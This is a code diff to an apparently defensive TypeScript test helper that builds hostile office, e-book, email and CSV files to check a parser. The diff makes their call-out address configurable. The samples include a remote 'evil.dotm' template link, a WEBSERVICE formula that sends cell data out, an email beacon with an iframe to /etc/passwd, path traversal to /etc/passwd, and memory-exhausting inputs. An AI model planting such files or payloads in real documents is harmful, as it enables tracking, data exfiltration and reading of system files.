@@ -13,8 +13,10 @@ const withEntities = (entities: string, body: string) => `<!DOCTYPE x [${entitie
 /**
  * Files made to keep a reader busy, to fill its memory or to make it call out. `size` scales them: 1 for tests, more for measuring.
  * Each ends as pages or with a reason; nothing that they name is fetched, and nothing in them is run.
+ *
+ * @param address what those that call out call
  */
-export function madeHostileFiles(size: number): readonly HostileFile[] {
+export function madeHostileFiles(size: number, address = 'http://127.0.0.1:9'): readonly HostileFile[] {
   const word = (body: string, head = '') =>
     madeZip({
       'word/document.xml': `${head}<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
@@ -43,8 +45,8 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
       format: 'docx',
       content: madeDocx(
         '<w:p><w:r><w:t>Seen</w:t><w:drawing><a:blip r:embed="rId1" r:link="rId1"/></w:drawing></w:r></w:p>',
-        { 'word/_rels/settings.xml.rels': madeRelations({ rId1: ['attachedTemplate', 'http://127.0.0.1:9/evil.dotm'] }) },
-        { rId1: ['image', 'http://127.0.0.1:9/pixel.png'] },
+        { 'word/_rels/settings.xml.rels': madeRelations({ rId1: ['attachedTemplate', `${address}/evil.dotm`] }) },
+        { rId1: ['image', `${address}/pixel.png`] },
       ),
     },
     {
@@ -69,7 +71,7 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
         { rId1: ['image', 'a.png'] },
       ),
     },
-    { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: FORMULA }) },
+    { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: formulaTo(address) }) },
     { what: 'cells in far corners', format: 'xlsx', content: madeXlsx({ A: FAR }) },
     {
       what: 'columns without an end',
@@ -113,7 +115,7 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
       format: 'odt',
       content: madeOpenDocument('text', '<text:p>x<text:s text:c="1e300"/></text:p>'),
     },
-    { what: 'a book that names a part outside', format: 'epub', content: madeZip(BOOK_OF_OTHERS) },
+    { what: 'a book that names a part outside', format: 'epub', content: madeZip(bookOf(address)) },
     { what: 'groups in groups', format: 'rtf', content: `{\\rtf1 ${'{\\b '.repeat(9_000)}x` },
     { what: 'a length that is a lie', format: 'rtf', content: '{\\rtf1 {\\pict\\bin99999999999 x}} seen' },
     {
@@ -136,30 +138,29 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
     { what: 'boundaries alone', format: 'eml', content: `${MIXED}${'--b\n'.repeat(50_000 * size)}` },
     { what: 'white space without an end', format: 'eml', content: `${QUOTED}${' '.repeat(300_000 * size)}x` },
     { what: 'a head without an end', format: 'eml', content: `From: a\nSubject: ${'=?utf-8?q?a?= '.repeat(20_000 * size)}` },
-    { what: 'a page that calls out', format: 'eml', content: BEACON },
+    { what: 'a page that calls out', format: 'eml', content: beaconTo(address) },
     { what: 'mails of one line', format: 'mbox', content: 'From x\n\n'.repeat(2_000 * size) },
     { what: 'one endless line', format: 'csv', content: 'a,'.repeat(3_000 * size) },
     { what: 'quotes without an end', format: 'csv', content: '"a,"'.repeat(30_000 * size) },
   ];
 }
 
-const FORMULA = '<row><c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A2)</f><v>saved</v></c></row>';
+const formulaTo = (address: string) => `<row><c t="str"><f>WEBSERVICE("${address}/"&amp;A2)</f><v>saved</v></c></row>`;
 const FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
 
 const MIXED = 'From: a\nContent-Type: multipart/mixed; boundary=b\n\n';
 const QUOTED = 'From: a\nContent-Transfer-Encoding: quoted-printable\n\n';
-const BEACON =
-  'From: a\nContent-Type: text/html\n\n<p>Seen<img src="http://127.0.0.1:9/p.gif"><iframe src="file:///etc/passwd"></iframe>';
+const beaconTo = (address: string) =>
+  `From: a\nContent-Type: text/html\n\n<p>Seen<img src="${address}/p.gif"><iframe src="file:///etc/passwd"></iframe>`;
 const LEADING_OUT = {
   'ppt/presentation.xml': '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldId r:id="rId1"/></p:presentation>',
   'ppt/_rels/presentation.xml.rels': madeRelations({ rId1: ['slide', '../../../../etc/passwd'] }),
 };
-const BOOK_OF_OTHERS = {
+const bookOf = (address: string) => ({
   mimetype: 'application/epub+zip',
   'META-INF/container.xml': '<rootfile full-path="book.opf"/>',
-  'book.opf':
-    '<package><item id="a" href="../../../etc/passwd" media-type="text/html"/><item id="b" href="http://127.0.0.1:9/" media-type="text/html"/><itemref idref="a"/><itemref idref="b"/></package>',
-};
+  'book.opf': `<package><item id="a" href="../../../etc/passwd" media-type="text/html"/><item id="b" href="${address}/" media-type="text/html"/><itemref idref="a"/><itemref idref="b"/></package>`,
+});
 
 const partsInParts = (depth: number): string =>
   `From: a\n${Array.from({ length: depth }, (_none, part) => `Content-Type: multipart/mixed; boundary=b${part}\n\n--b${part}\n`).join('')}\nx`;
